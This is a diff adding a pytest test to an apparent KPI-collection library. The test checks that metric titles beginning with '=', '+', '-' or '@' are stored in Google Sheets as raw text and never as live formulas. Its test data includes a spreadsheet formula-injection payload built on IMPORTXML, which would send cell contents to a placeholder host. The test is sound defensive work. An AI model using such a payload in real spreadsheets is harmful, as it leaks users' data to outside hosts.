@@ -117,3 +117,39 @@ def test_sheets_errors_name_their_cause(
     assert ("refused for good" in message) is refused
     (record,) = p.delivery_engine().records()
     assert record.status == ("failed" if refused else "pending")
+
+
+@pytest.mark.parametrize("layout", ["wide", "long"])
+def test_titles_that_look_like_formulas_land_as_text(tmp_path: Path, layout: str) -> None:
+    """A title or KPI id starting with `=`, `+`, `-` or `@` must land in its cell as the text
+    it is, never as a formula the sheet runs (`=IMPORTXML(...)` sending the sheet's data out):
+    every write is RAW, which the Sheets API stores as sent (its fake parses USER_ENTERED
+    writes as typed, as Sheets does)."""
+    from kpi_collector import Pipeline
+    from kpi_collector.destinations import Store
+    from kpi_collector.destinations.google_sheets.fake import Formula
+    from kpi_collector.sources.python import Function
+
+    titles = ['=IMPORTXML("http://x.example/?"&A1,"//a")', "+1+1", "-2+3", "@SUM(A1)"]
+    with FakeSheets.serve() as sheets:
+        key = sheets.add_spreadsheet()
+        destination = GoogleSheets(
+            spreadsheet=key,
+            credentials=json.dumps(service_account(sheets.token_uri)),
+            api_url=sheets.url,
+            every="day",
+            layout=layout,  # type: ignore[arg-type]
+        )
+        p = Pipeline(
+            sources=[
+                Function(lambda: {f"m{i}": -float(i) for i in range(len(titles))}, name="app"),
+                Function(lambda: {"x": 1.0}, name="=cmd"),
+            ],
+            destinations=[Store(f"sqlite:///{tmp_path / 'kpi.db'}"), destination],
+            kpis={f"app.m{i}": {"title": t} for i, t in enumerate(titles)},
+            base_dir=tmp_path,
+        )
+        assert p.process(now=DAY).delivery_errors == {}
+        cells = [cell for row in sheets.values(key, "KPIs") for cell in row]
+    assert not [c for c in cells if isinstance(c, Formula)]
+    assert set(titles) | {"=cmd.x"} <= set(cells) and -3.0 in cells
